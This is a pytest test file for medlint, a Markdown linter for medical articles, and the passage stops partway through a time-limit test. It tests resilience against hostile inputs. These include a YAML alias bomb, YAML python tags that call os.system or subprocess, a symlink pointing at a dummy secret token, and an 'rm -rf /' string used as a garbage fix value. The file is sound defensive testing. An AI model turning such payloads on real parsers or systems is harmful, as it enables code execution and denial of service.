"""Hostile input, failing rules, interrupted fixes, injection: medlint never crashes,
never hangs, never loses a file and never runs an article's code (issue 7).

Every hostile case must end in a clear finding or message naming the file and line,
with no traceback, in bounded time and memory, while every other file is still
linted. The big inputs (``@pytest.mark.slow``; CI runs them too) come from
``bench/hostile_inputs.py`` and are measured in a fresh process (wall time and peak
RSS from ``wait4``); the bounds asserted here are deliberately loose (a shared,
noisy 2-core machine), the measured medians are in ``docs/limits.md``.
"""

from __future__ import annotations

import builtins
import codecs
import datetime as dt
import errno
import importlib.util
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import textwrap
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from medlint import fixes as fixes_mod
from medlint.cli import main
from medlint.diagnostics import Diagnostic, Fix, Related, Replacement, Severity
from medlint.document import Document
from medlint.engine import ConfiguredRule, run_rules
from medlint.linter import lint_text
from medlint.reading import read_bytes
from medlint.position import Source
from medlint.reading import Unreadable, decode
from medlint.rule import Context, Rule, RunContext
from medlint.runner import RunOptions, Session, Target, fix_text

ROOT = Path(__file__).resolve().parents[1]


def _load_bench():
    spec = importlib.util.spec_from_file_location("hostile_inputs", ROOT / "bench" / "hostile_inputs.py")
    module = importlib.util.module_from_spec(spec)
    sys.modules["hostile_inputs"] = module
    spec.loader.exec_module(module)
    return module


hostile = _load_bench()
FRONT, GOOD, TODAY = hostile.FRONT, hostile.GOOD, hostile.TODAY
FRONT_LINES = FRONT.count("\n")  # body line 1 is file line FRONT_LINES + 1
IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0

# A loose memory bound for one medlint process on one big input (measured medians: docs/limits.md).
MAX_PEAK_MB = 1536.0


def by_path(findings: list[dict]) -> dict[str, list[dict]]:
    out: dict[str, list[dict]] = {}
    for f in findings:
        out.setdefault(f["path"], []).append(f)
    return out


def run_check(paths: list[str], cwd: Path, *extra: str, timeout: float = 300.0):
    """medlint in a fresh process; asserts it did not crash and returns (run, findings)."""
    run = hostile.run_medlint([*hostile.check_args(*paths), *extra], cwd, timeout=timeout)
    assert "Traceback" not in run.stderr, run.stderr[-3000:]
    assert run.returncode in (0, 1, 2), (run.returncode, run.stderr[-3000:])
    return run, json.loads(run.stdout)


def assert_bounded(run, peak_mb: float = MAX_PEAK_MB) -> None:
    """Memory stays bounded. Time is not asserted (a wall-clock bound fails on a
    loaded machine or under coverage): the subprocess timeout guards against a hang,
    and bench/hostile_inputs.py measures the times docs/limits.md reports."""
    assert run.peak_mb < peak_mb, f"peak memory {run.peak_mb:.0f} MiB (bound {peak_mb} MiB)"


# ---------------------------------------------------------------------------------
# 1. Broken and hostile files, all in one folder, linted in one run
# ---------------------------------------------------------------------------------
BODY = "# Iron basics\n\nCaf\u00e9 w"  # the bad byte follows "Café w" on body line 3: column 7
BAD_LINE = FRONT_LINES + 3


def _hostile_files() -> dict[str, bytes]:
    front = FRONT.encode()
    deep_yaml = "---\ntitle: " + "[" * 5000 + "]" * 5000 + "\n---\n# T\n"
    bomb = ["---", 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in zip("abcdefgh", "bcdefghi"):
        bomb.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    bomb += ["---", "# T", ""]
    return {
        # encodings
        "bad-utf8.md": front + BODY.encode() + b"\xffrld\n",
        "bad-utf8-crlf.md": (FRONT + BODY).replace("\n", "\r\n").encode() + b"\xffrld\r\n",
        "bad-utf8-cr.md": (FRONT + BODY).replace("\n", "\r").encode() + b"\xffrld\r",
        "bad-utf8-bom.md": codecs.BOM_UTF8 + front + BODY.encode() + b"\xffrld\n",
        "bad-utf8-truncated.md": front + BODY.encode() + b"\xe2\x82",  # cut in the middle of "€"
        "nul.md": front + b"# Title\nab\x00cd\n",
        "binary.md": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)),
        "utf16le-bom.md": GOOD.encode("utf-16"),  # BOM + little endian
        "utf16be-bom.md": codecs.BOM_UTF16_BE + GOOD.encode("utf-16-be"),
        "utf16le-nobom.md": GOOD.encode("utf-16-le"),
        "utf32-bom.md": GOOD.encode("utf-32"),
        # front matter shapes
        "empty.md": b"",
        "only-front-matter.md": front,
        "only-front-matter-no-newline.md": front.rstrip(b"\n"),
        "only-fence.md": b"---\n",
        "unterminated.md": b"---\ntitle: x\nauthor: y\n# Body\n\nText.\n",
        "yaml-syntax.md": b"---\ntitle: x\nauthor: y\n  bad: indent\n---\n# Body\n",
        "yaml-tab.md": b"---\ntitle: x\n\tauthor: y\n---\n# Body\n",
        "yaml-bomb.md": "\n".join(bomb).encode(),
        "yaml-deep.md": deep_yaml.encode(),
        "yaml-recursive-alias.md": b"---\ntitle: &a [*a, *a]\nauthor: *a\n---\n# T\n",
        "yaml-huge-scalar.md": b"---\ntitle: \"" + b"x" * 5_000_000 + b"\"\n---\n# Body\n",
        "yaml-list.md": b"---\n- a\n- b\n---\n# Body\n",
        "yaml-string.md": b"---\njust a string\n---\n# Body\n",
        "yaml-int.md": b"---\n42\n---\n# Body\n",
        # Markdown that never closes
        "unclosed-fence.md": front + b"# T\n\n```python\nprint(1)\n\nStill code https://x.org\n",
        "unclosed-comment.md": front + b"# T\n\n<!-- medlint-disable\n\nhttps://x.org\n",
        "unclosed-html.md": front + b"# T\n\n<div>\n<table><tr><td>\n\nSee https://x.org now.\n",
        # the control: linted normally, no findings
        "good.md": GOOD.encode(),
    }


# name -> (rule, line, column, words the message must contain)
EXPECTED_FIRST: dict[str, tuple[str, int, int, tuple[str, ...]]] = {
    "bad-utf8.md": ("file-unreadable", BAD_LINE, 7, ("UTF-8", "0xff")),
    "bad-utf8-crlf.md": ("file-unreadable", BAD_LINE, 7, ("UTF-8", "0xff")),
    "bad-utf8-cr.md": ("file-unreadable", BAD_LINE, 7, ("UTF-8", "0xff")),
    "bad-utf8-bom.md": ("file-unreadable", BAD_LINE, 7, ("UTF-8", "0xff")),
    "bad-utf8-truncated.md": ("file-unreadable", BAD_LINE, 7, ("UTF-8", "0xe2")),
    "nul.md": ("file-unreadable", FRONT_LINES + 2, 3, ("NUL", "binary")),
    "binary.md": ("file-unreadable", 3, 1, ("binary",)),
    "utf16le-bom.md": ("file-unreadable", 1, 1, ("UTF-16", "UTF-8")),
    "utf16be-bom.md": ("file-unreadable", 1, 1, ("UTF-16", "UTF-8")),
    "utf16le-nobom.md": ("file-unreadable", 1, 1, ("UTF-16", "UTF-8")),
    "utf32-bom.md": ("file-unreadable", 1, 1, ("UTF-32", "UTF-8")),
    "empty.md": ("frontmatter-schema", 1, 1, ("no front matter",)),
    "only-fence.md": ("frontmatter-schema", 1, 1, ("not closed",)),
    "unterminated.md": ("frontmatter-schema", 1, 1, ("not closed",)),
    "yaml-syntax.md": ("frontmatter-schema", 4, 6, ("not valid YAML",)),
    "yaml-tab.md": ("frontmatter-schema", 3, 1, ("not valid YAML", "tab")),
    "yaml-bomb.md": ("frontmatter-schema", 2, 1, ("too large", "aliases")),
    "yaml-deep.md": ("frontmatter-schema", 2, 8 + 99, ("nested too deeply",)),  # the 101st level
    "yaml-recursive-alias.md": ("frontmatter-schema", 2, 8, ("refers to itself",)),
    "yaml-list.md": ("frontmatter-schema", 1, 1, ("mapping", "list")),
    "yaml-string.md": ("frontmatter-schema", 1, 1, ("mapping", "str")),
    "yaml-int.md": ("frontmatter-schema", 1, 1, ("mapping", "int")),
}


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    for name, data in _hostile_files().items():
        (root / name).write_bytes(data)
    # File system oddities.
    (root / "x.md").mkdir()  # a folder named like an article: walked, never read as a file
    (root / "x.md" / "inside.md").write_text(GOOD, encoding="utf-8")
    os.symlink("loop-b.md", root / "loop-a.md")
    os.symlink("loop-a.md", root / "loop-b.md")
    os.symlink("nowhere.md", root / "dangling.md")
    (root / "sub").mkdir()
    os.symlink("..", root / "sub" / "up")  # a folder loop: not followed
    (root / "sub" / "deep.md").write_text(GOOD, encoding="utf-8")
    if hasattr(os, "mkfifo"):
        os.mkfifo(root / "pipe.md")  # reading it would block forever
    if os.path.exists("/dev/zero"):
        os.symlink("/dev/zero", root / "zero.md")  # reading it would never end
    run, findings = run_check(["."], root, timeout=240)
    return root, run, by_path(findings)


def test_hostile_folder_finishes_without_traceback(hostile_run):
    root, run, found = hostile_run
    assert run.returncode == 1, run.stderr  # findings, but no internal error
    assert not [f for fs in found.values() for f in fs if f["rule"] == "rule-error"]


def test_every_other_file_is_still_linted(hostile_run):
    root, run, found = hostile_run
    for clean in ("good.md", "x.md/inside.md", "sub/deep.md"):
        assert clean not in found, found.get(clean)
    # Every article produced its own finding(s): nothing was skipped silently.
    for name in _hostile_files():
        if name != "good.md":
            assert name in found, name


@pytest.mark.parametrize("name", sorted(EXPECTED_FIRST))
def test_hostile_file_finding_and_position(hostile_run, name):
    root, run, found = hostile_run
    rule, line, column, words = EXPECTED_FIRST[name]
    matches = [f for f in found[name] if f["rule"] == rule]
    assert matches, found[name]
    first = min(matches, key=lambda f: (f["line"], f["column"]))
    assert (first["line"], first["column"]) == (line, column), first
    for word in words:
        assert word.lower() in first["message"].lower(), first["message"]
    if rule == "file-unreadable":
        assert len(found[name]) == 1  # nothing else is claimed about an unreadable file


def test_front_matter_only_files_are_linted_as_articles(hostile_run):
    root, run, found = hostile_run
    for name in ("only-front-matter.md", "only-front-matter-no-newline.md"):
        rules = {f["rule"] for f in found[name]}
        assert "frontmatter-schema" not in rules, found[name]  # the front matter itself is fine
        assert {"disclaimer-required", "references-required"} <= rules


def test_huge_yaml_scalar_is_just_data(hostile_run):
    root, run, found = hostile_run
    messages = [f["message"] for f in found["yaml-huge-scalar.md"] if f["rule"] == "frontmatter-schema"]
    assert messages and all("missing the required key" in m for m in messages), messages
    assert all(len(m) < 500 for f in found["yaml-huge-scalar.md"] for m in [f["message"]])


def test_unclosed_constructs_still_give_document_findings(hostile_run):
    root, run, found = hostile_run
    for name in ("unclosed-fence.md", "unclosed-comment.md", "unclosed-html.md"):
        assert {"disclaimer-required", "references-required"} <= {f["rule"] for f in found[name]}, name
    # Code is not prose: the URL inside the unclosed fence is not a bare link.
    assert "link-bare" not in {f["rule"] for f in found["unclosed-fence.md"]}


def test_symlink_loop_dangling_link_and_special_files(hostile_run):
    root, run, found = hostile_run
    for name in ("loop-a.md", "loop-b.md"):
        (f,) = found[name]
        assert f["rule"] == "file-unreadable" and "symbolic links" in f["message"], f
    (f,) = found["dangling.md"]
    assert f["rule"] == "file-unreadable" and (f["line"], f["column"]) == (1, 1)
    if hasattr(os, "mkfifo"):
        (f,) = found["pipe.md"]
        assert f["rule"] == "file-unreadable" and "not a regular file" in f["message"], f
    if os.path.exists("/dev/zero"):  # a link out of the folder: not even opened
        (f,) = found["zero.md"]
        assert f["rule"] == "file-unreadable" and "outside the folder" in f["message"], f
        assert "not a regular file" in read_bytes(str(root / "zero.md")).message  # named explicitly
    # The folder loop sub/up -> .. is not followed: no path runs through it.
    assert not [p for p in found if "/up/" in p or p.startswith("sub/up")]


def test_folder_named_like_an_article_is_walked_not_read(hostile_run, tmp_path):
    root, run, found = hostile_run
    assert "x.md" not in found and "x.md/inside.md" not in found
    # Given explicitly it is still a folder: its articles are linted.
    (tmp_path / "y.md").mkdir()
    (tmp_path / "y.md" / "a.md").write_text("# A\n\nSee https://example.org now.\n", encoding="utf-8")
    result = CliRunner().invoke(main, [*hostile.check_args(str(tmp_path / "y.md"))])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert {f["rule"] for f in json.loads(result.output)} >= {"link-bare"}
    # And a path that turns into a folder after discovery is reported, not crashed on.
    assert read_bytes(str(tmp_path / "y.md")) == Unreadable("this is a folder, not a file")


def test_symlinks_out_of_the_folder_are_not_read_when_walking(tmp_path):
    """Regression: a pull request adding ``notes.md -> ../../secret`` made the report
    (excerpts of findings, in a public CI log) show lines of that file."""
    (tmp_path / "secret.txt").write_text("TOKEN=hunter2 https://internal.example/x\n", encoding="utf-8")
    repo = tmp_path / "repo"
    (repo / "sub").mkdir(parents=True)
    (repo / "sub" / "b.md").write_text("# In\n\nSee https://example.org now.\n", encoding="utf-8")
    os.symlink(os.path.join("..", "secret.txt"), repo / "notes.md")
    os.symlink(os.path.join("sub", "b.md"), repo / "inner.md")  # inside the folder: followed
    for fmt in ("text", "json", "sarif"):
        run = hostile.run_medlint(["check", ".", "--isolated", "--no-cache", "--format", fmt], repo)
        assert run.returncode == 1 and "Traceback" not in run.stderr
        assert "hunter2" not in run.stdout and "internal.example" not in run.stdout
    findings = by_path(json.loads(hostile.run_medlint(hostile.check_args("."), repo).stdout))
    (f,) = findings["notes.md"]
    assert f["rule"] == "file-unreadable" and "outside the folder" in f["message"]
    assert "link-bare" in {f["rule"] for f in findings["inner.md"]}
    # --fix never follows it either, and naming the file explicitly lints it.
    run = hostile.run_medlint(["check", ".", "--isolated", "--fix", "--unsafe-fixes"], repo)
    assert (tmp_path / "secret.txt").read_text(encoding="utf-8") == "TOKEN=hunter2 https://internal.example/x\n"
    explicit = json.loads(hostile.run_medlint(hostile.check_args("notes.md"), repo).stdout)
    assert "link-bare" in {f["rule"] for f in explicit}


def test_python_tags_in_front_matter_never_execute(tmp_path):
    marker = tmp_path / "PWNED"
    tags = [
        f'!!python/object/apply:os.system ["touch {marker}"]',
        f'!!python/object/apply:subprocess.check_call [["touch", "{marker}"]]',
        f'!!python/object/new:subprocess.Popen [["touch", "{marker}"]]',
        "!!python/name:os.system",
        "!!python/module:antigravity",
        f'!python/object/apply:os.system ["touch {marker}"]',
        f'!<tag:yaml.org,2002:python/object/apply:os.system> ["touch {marker}"]',
    ]
    for i, tag in enumerate(tags):
        (tmp_path / f"tag{i}.md").write_text(f"---\ntitle: x\nauthor: {tag}\n---\n# T\n", encoding="utf-8")
    run, findings = run_check(["."], tmp_path)
    assert not marker.exists()
    found = by_path(findings)
    for i in range(len(tags)):
        errors = [f for f in found[f"tag{i}.md"] if f["rule"] == "frontmatter-schema"]
        assert errors and errors[0]["line"] == 3 and "not valid YAML" in errors[0]["message"], errors


def test_deleted_between_discovery_and_reading(tmp_path):
    for name in ("a.md", "b.md", "c.md"):
        (tmp_path / name).write_text(GOOD, encoding="utf-8")
    session = Session(RunOptions(isolated=True, today=dt.date(2026, 11, 25)))
    targets = session.discover([str(tmp_path)])
    assert len(targets) == 3
    (tmp_path / "b.md").unlink()
    results = [session.lint_target(t) for t in targets]
    assert [r.diagnostics for r in results if not r.path.endswith("b.md")] == [[], []]
    (gone,) = [r for r in results if r.path.endswith("b.md")]
    (d,) = gone.diagnostics
    assert d.rule == "file-unreadable" and "vanished" in d.message and (d.line, d.column) == (1, 1)


def test_deleted_between_discovery_and_reading_through_the_cli(tmp_path, monkeypatch):
    for name in ("a.md", "b.md"):
        (tmp_path / name).write_text(GOOD, encoding="utf-8")
    real_discover = Session.discover

    def discover_then_delete(self, paths, **options):
        targets = real_discover(self, paths, **options)
        (tmp_path / "a.md").unlink()
        return targets

    monkeypatch.setattr(Session, "discover", discover_then_delete)
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, [*hostile.check_args("."), "-j", "1"])
    assert result.exit_code == 1, result.output
    (f,) = json.loads(result.output)
    assert (f["path"], f["rule"], f["line"]) == ("a.md", "file-unreadable", 1)


def _deny(monkeypatch, target: Path) -> None:
    """Make ``target`` unreadable, whatever the reading code uses (open or os.open)."""
    real_open, real_os_open = builtins.open, os.open

    def fake_open(file, *args, **kwargs):
        if isinstance(file, (str, os.PathLike)) and os.fspath(file) == str(target):
            raise PermissionError(errno.EACCES, "Permission denied", str(target))
        return real_open(file, *args, **kwargs)

    def fake_os_open(path, *args, **kwargs):
        if os.fspath(path) == str(target):
            raise PermissionError(errno.EACCES, "Permission denied", str(target))
        return real_os_open(path, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", fake_open)
    monkeypatch.setattr(os, "open", fake_os_open)


def test_unreadable_file_is_reported_and_others_linted(tmp_path, monkeypatch):
    (tmp_path / "locked.md").write_text(GOOD, encoding="utf-8")
    (tmp_path / "open.md").write_text(GOOD, encoding="utf-8")
    _deny(monkeypatch, tmp_path / "locked.md")
    session = Session(RunOptions(isolated=True, today=dt.date(2026, 11, 25)))
    results = {Path(r.path).name: r for r in (session.lint_target(t) for t in session.discover([str(tmp_path)]))}
    assert results["open.md"].diagnostics == []
    (d,) = results["locked.md"].diagnostics
    assert d.rule == "file-unreadable" and "permission denied" in d.message and (d.line, d.column) == (1, 1)


@pytest.mark.skipif(not hasattr(os, "geteuid") or IS_ROOT,
                    reason="running as root: chmod 000 does not stop root from reading "
                           "(the monkeypatched test above covers this case)")
def test_chmod_000_file_is_reported(tmp_path):
    (tmp_path / "locked.md").write_text(GOOD, encoding="utf-8")
    (tmp_path / "open.md").write_text(GOOD, encoding="utf-8")
    (tmp_path / "locked.md").chmod(0)
    try:
        run, findings = run_check(["."], tmp_path)
    finally:
        (tmp_path / "locked.md").chmod(0o644)
    (f,) = findings
    assert f["path"] == "locked.md" and f["rule"] == "file-unreadable" and "permission" in f["message"]


def test_oversized_file_is_refused_before_reading(tmp_path, monkeypatch):
    import medlint.reading as reading

    monkeypatch.setattr(reading, "MAX_FILE_BYTES", 1000)
    (tmp_path / "big.md").write_text(GOOD * 10, encoding="utf-8")
    found = read_bytes(str(tmp_path / "big.md"))
    assert isinstance(found, Unreadable) and "too large" in found.message


@pytest.mark.parametrize("data, line, column", [
    (b"ok\n\xff", 2, 1),
    (b"a\r\nb\r\n\xc3\xa9\xff", 3, 2),
    (b"a\rb\rc\xff", 3, 2),
    (codecs.BOM_UTF8 + b"\xc3\xa9\xc3\xa9\xff", 1, 3),
    (b"\xf0\x9f\x98\x80x\x80", 1, 3),  # an astral character counts as one column
])
def test_decode_reports_the_first_bad_byte(data, line, column):
    result = decode(data)
    assert isinstance(result, Unreadable)
    assert (result.line, result.column) == (line, column), result


# ---------------------------------------------------------------------------------
# 2. Big inputs (slow): bounded time and memory, measured in a fresh process
# ---------------------------------------------------------------------------------
def _lint_big(tmp_path: Path, text: str, name: str = "big.md", allow_timeouts: bool = False):
    (tmp_path / name).write_text(text, encoding="utf-8")
    (tmp_path / "good.md").write_text(GOOD, encoding="utf-8")
    # every finding listed: these inputs measure linting and reporting at scale
    run, findings = run_check([name, "good.md"], tmp_path, "--max-findings-per-rule", "0")
    found = by_path(findings)
    assert "good.md" not in found  # the other file is linted normally
    errors = [f for f in found.get(name, []) if f["rule"] == "rule-error"]
    if allow_timeouts:  # a slow rule on a loaded machine: reported, bounded, the run goes on
        assert all("took longer than" in f["message"] for f in errors), errors
    else:
        assert not errors, errors
    assert_bounded(run)
    return run, [f for f in found.get(name, []) if f["rule"] != "rule-error"]


@pytest.mark.slow
def test_five_megabyte_single_line(tmp_path):
    run, found = _lint_big(tmp_path, hostile.single_line(5))
    assert run.returncode in (0, 1)
    assert all(f["line"] >= 1 for f in found)


@pytest.mark.slow
def test_hundred_thousand_citation_markers(tmp_path):
    run, found = _lint_big(tmp_path, hostile.citation_markers(100_000))
    assert "citation-unresolved" not in {f["rule"] for f in found}


@pytest.mark.slow
def test_hundred_thousand_unresolved_citation_markers(tmp_path):
    text = hostile.citation_markers(100_000).replace("Iron helps [1].", "Iron helps [7].")
    run, found = _lint_big(tmp_path, text)
    unresolved = [f for f in found if f["rule"] == "citation-unresolved"]
    assert len(unresolved) == 100_000
    body = FRONT_LINES + 3
    assert (unresolved[0]["line"], unresolved[0]["column"]) == (body, 12)
    assert (unresolved[-1]["line"], unresolved[-1]["column"]) == (body, 12 + 16 * 99_999)


@pytest.mark.slow
def test_ten_thousand_nested_block_quotes(tmp_path):
    run, found = _lint_big(tmp_path, hostile.nested_quotes(10_000))
    assert run.returncode in (0, 1)


@pytest.mark.slow
def test_ten_thousand_nested_list_levels(tmp_path):
    run, found = _lint_big(tmp_path, hostile.nested_lists(10_000))
    assert run.returncode in (0, 1)


@pytest.mark.slow
def test_deeply_nested_and_unclosed_emphasis(tmp_path):
    run, found = _lint_big(tmp_path, hostile.nested_emphasis(10_000))
    assert run.returncode in (0, 1)


@pytest.mark.slow
def test_twenty_thousand_suppression_comments(tmp_path):
    run, found = _lint_big(tmp_path, hostile.suppression_comments(20_000))
    assert found == []  # every bare URL suppressed, every suppression used


@pytest.mark.slow
def test_twenty_megabyte_article(tmp_path):
    text = hostile.big_article(20)
    assert len(text.encode()) >= 20 * 1024 * 1024
    # The slowest rule needs about half of its 10 s limit here on an idle 2-core
    # machine (docs/limits.md); on a loaded one it may be stopped and reported.
    run, found = _lint_big(tmp_path, text, allow_timeouts=True)
    assert run.returncode in (0, 2) and found == [], found[:5]


@pytest.mark.slow
def test_fifty_thousand_files_in_one_folder(tmp_path):
    hostile.many_files(tmp_path / "many", 50_000)
    (tmp_path / "many" / "zz-broken.md").write_bytes(b"# T\n\xff\n")
    run, findings = run_check(["many"], tmp_path, timeout=300)
    assert_bounded(run)
    found = by_path(findings)
    assert len(found) == 50_001
    assert [f["rule"] for f in found["many/zz-broken.md"]] == ["file-unreadable"]
    assert {f["rule"] for f in found["many/a49999.md"]} >= {"link-bare"}


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["text", "sarif", "github", "junit"])
def test_many_findings_on_one_huge_line_are_reported_fast(tmp_path, fmt):
    """Regression: text excerpts split the whole file once per finding, and SARIF
    fingerprints re-read the flagged line once per finding: 20,000 findings on one
    line took 24 s (text) and 38 s (SARIF); quadratic, so 100,000 would take an hour."""
    text = hostile.citation_markers(50_000).replace("Iron helps [1].", "Iron helps [7].")
    (tmp_path / "a.md").write_text(text, encoding="utf-8")
    run = hostile.run_medlint(["check", "a.md", "--isolated", "--no-cache", "--today", TODAY, "--format", fmt,
                               "--max-findings-per-rule", "0"], tmp_path, timeout=300)
    assert run.returncode == 1 and "Traceback" not in run.stderr, run.stderr[-2000:]
    assert run.stdout.count("ML302") >= 50_000  # citation-unresolved, once per marker
    assert_bounded(run)


@pytest.mark.slow
def test_baseline_of_many_findings_on_one_huge_line_is_fast(tmp_path):
    """Regression: each finding's fingerprint re-read and re-hashed its whole line:
    recording or applying a baseline of 20,000 findings on one line took 38 s."""
    text = hostile.citation_markers(50_000).replace("Iron helps [1].", "Iron helps [7].")
    (tmp_path / "a.md").write_text(text, encoding="utf-8")
    common = ["--isolated", "--today", TODAY]
    run = hostile.run_medlint(["baseline", "base.json", "a.md", *common], tmp_path, timeout=300)
    assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr[-2000:]
    assert_bounded(run)
    run = hostile.run_medlint(["check", "a.md", "--baseline", "base.json", "--no-cache", "--format", "json",
                               *common], tmp_path, timeout=300)
    assert run.returncode == 0 and json.loads(run.stdout) == [], run.stderr[-2000:]
    assert_bounded(run)


# ---------------------------------------------------------------------------------
# 3. Faults: rules that raise, report garbage or never finish
# ---------------------------------------------------------------------------------
class _TestRule(Rule):
    """A rule defined by the tests.

    ## What it does
    Whatever the test needs.

    ## Why it matters
    It checks the engine.
    """

    summary = "test rule"
    severity = Severity.ERROR


class Finds(_TestRule):
    code, name = "TST001", "finds-iron"

    def check(self, ctx: Context) -> None:
        start = ctx.doc.text.find("Iron")
        ctx.report(start, start + 4, "iron mentioned")


class Raises(_TestRule):
    code, name = "TST002", "raises"

    def check(self, ctx: Context) -> None:
        raise ValueError("boom\nsecond line")


class RaisesInVisitor(_TestRule):
    code, name = "TST003", "raises-in-visitor"

    def visit_paragraph(self, ctx: Context, node) -> None:
        raise KeyError("no such key")


class Forever(_TestRule):
    code, name = "TST004", "forever"

    def check(self, ctx: Context) -> None:
        while True:
            pass


class Sleeps(_TestRule):
    code, name = "TST005", "sleeps"

    returned = False  # set if the sleep ran its course: the time limit did not interrupt it

    def check(self, ctx: Context) -> None:
        time.sleep(60)
        type(self).returned = True


class SwallowsEverything(_TestRule):
    code, name = "TST008", "swallows-exceptions"

    def check(self, ctx: Context) -> None:
        while True:  # a rule that catches every Exception must still be stoppable
            try:
                time.sleep(0.01)
            except Exception:
                pass


class SwallowsOnce(_TestRule):
    code, name = "TST009", "swallows-once"

    def check(self, ctx: Context) -> None:
        try:  # swallows even the time limit, then finishes late
            while True:
                time.sleep(0.01)
        except BaseException:
            pass
        time.sleep(0.2)


class Exits(_TestRule):
    code, name = "TST006", "exits"

    def check(self, ctx: Context) -> None:
        sys.exit(0)  # a plugin must not end the run (and pass CI) by exiting


class Recurses(_TestRule):
    code, name = "TST007", "recurses"

    def check(self, ctx: Context) -> None:
        def down(n: int) -> int:
            return down(n + 1) + 1

        down(0)


def _garbage_rule(value_factory, code: str):
    class Garbage(_TestRule):
        def check(self, ctx: Context) -> None:
            ctx.report(0, 1, "fine finding")
            ctx.diagnostics.append(value_factory(ctx))

    Garbage.code, Garbage.name = code, f"garbage-{code[-3:]}"
    return Garbage


def _diag(ctx: Context, **changes) -> Diagnostic:
    base = dict(path=ctx.doc.path, rule=ctx.rule.name, code=ctx.rule.code, severity=Severity.ERROR,
                message="m", line=1, column=1, end_line=1, end_column=2)
    base.update(changes)
    return Diagnostic(**base)


GARBAGE = {
    "none": lambda ctx: None,
    "string": lambda ctx: "line 3: something",
    "dict": lambda ctx: {"line": 1, "column": 1, "message": "x"},
    "line-zero": lambda ctx: _diag(ctx, line=0),
    "column-negative": lambda ctx: _diag(ctx, column=-5),
    "line-past-end": lambda ctx: _diag(ctx, line=10_000, end_line=10_000),
    "end-before-start": lambda ctx: _diag(ctx, line=3, end_line=2),
    "line-not-int": lambda ctx: _diag(ctx, line="3"),
    "message-none": lambda ctx: _diag(ctx, message=None),
    "severity-string": lambda ctx: _diag(ctx, severity="fatal"),
    "fix-garbage": lambda ctx: _diag(ctx, fix="rm -rf /"),
    "replacement-garbage": lambda ctx: _diag(ctx, fix=Fix((Replacement(1, 1, 1, 1, None),))),
    "related-garbage": lambda ctx: _diag(ctx, related=("elsewhere",)),
}

DOC_TEXT = "# Title\n\nIron helps your blood.\n\nMore text here.\n"


def _run(rules, time_limit=None, text=DOC_TEXT):
    doc = Document.from_text(text, "article.md")
    configured = [ConfiguredRule(r(), Severity.ERROR) for r in rules]
    return run_rules(doc, configured, RunContext(today=dt.date(2026, 11, 25)), time_limit_s=time_limit)


def _rule_errors(diags, name):
    return [d for d in diags if d.rule == "rule-error" and d.data.get("failed_rule") == name]


@pytest.mark.parametrize("bad, words", [
    (Raises, ("ValueError", "boom")),
    (RaisesInVisitor, ("KeyError", "no such key")),
    (Exits, ("SystemExit",)),
    (Recurses, ("nested too deeply",)),
])
def test_rule_that_raises_is_a_rule_error_and_the_rest_runs(bad, words):
    diags = _run([Finds, bad, Finds.__class__("Finds2", (Finds,), {"code": "TST099", "name": "finds-again"})])
    (err,) = _rule_errors(diags, bad.name)
    assert err.path == "article.md" and (err.line, err.column) == (1, 1) and err.severity == Severity.ERROR
    for word in words:
        assert word in err.message
    assert "\n" not in err.message  # one line of the exception, not a traceback
    assert [d.rule for d in diags if d.rule != "rule-error"] == ["finds-iron", "finds-again"]


@pytest.mark.parametrize("bad", [Forever, Sleeps, SwallowsEverything, SwallowsOnce])
def test_rule_that_never_finishes_is_stopped_and_reported(bad):
    diags = _run([Finds, bad, Finds.__class__("Finds2", (Finds,), {"code": "TST099", "name": "finds-again"})],
                 time_limit=0.5)
    assert not Sleeps.returned  # interrupted, not waited for (Forever could not return at all)
    (err,) = _rule_errors(diags, bad.name)
    assert "longer than 0.5 s" in err.message
    assert sorted(d.rule for d in diags if d.rule != "rule-error") == ["finds-again", "finds-iron"]


class SlowEachParagraph(_TestRule):
    """Each visit is well under the limit; all of them together are over it."""

    code, name = "TST020", "slow-each-paragraph"

    def visit_paragraph(self, ctx: Context, node) -> None:
        time.sleep(0.1)
        ctx.report(node.start, node.start + 1, "m")


class SlowOnThirdParagraph(_TestRule):
    code, name = "TST021", "slow-on-third-paragraph"
    seen = 0

    def visit_paragraph(self, ctx: Context, node) -> None:
        type(self).seen += 1
        if type(self).seen == 3:
            time.sleep(60)


FOUR_PARAGRAPHS = "# Title\n\nOne.\n\nTwo.\n\nThree.\n\nFour.\n"


def test_time_limit_is_per_rule_call_not_per_file():
    """The one timer of a run_rules call limits each call, not the sum of a rule's calls."""
    diags = _run([SlowEachParagraph], time_limit=0.3, text=FOUR_PARAGRAPHS)
    assert not _rule_errors(diags, SlowEachParagraph.name)
    assert [d.line for d in diags] == [3, 5, 7, 9]


def test_slow_call_after_fast_ones_is_stopped_and_the_alarm_handler_restored():
    SlowOnThirdParagraph.seen = 0
    before = signal.getsignal(signal.SIGALRM)
    diags = _run([Finds, SlowOnThirdParagraph], time_limit=0.3, text=FOUR_PARAGRAPHS)
    (err,) = _rule_errors(diags, SlowOnThirdParagraph.name)
    assert "longer than 0.3 s" in err.message
    assert SlowOnThirdParagraph.seen == 3  # its later calls are skipped once it failed
    assert signal.getsignal(signal.SIGALRM) is before
    assert signal.getitimer(signal.ITIMER_REAL) == (0.0, 0.0)


def test_time_limit_through_run_options(tmp_path):
    """RunOptions(time_limit=...) reaches the engine: the run goes on, exit code 2."""
    (tmp_path / "a.md").write_text(GOOD, encoding="utf-8")
    session = Session(RunOptions(isolated=True, today=dt.date(2026, 11, 25), time_limit=0.3))
    config = session.config_for(tmp_path / "a.md")
    target = Target(str(tmp_path / "a.md"), str(tmp_path / "a.md"), True)
    real_settings = session.settings_for(target)

    def settings(doc):
        s = real_settings(doc)
        s.rules.append(ConfiguredRule(Forever(), Severity.ERROR))
        return s

    result = lint_text(target.display, GOOD, settings, session.run_context(config))
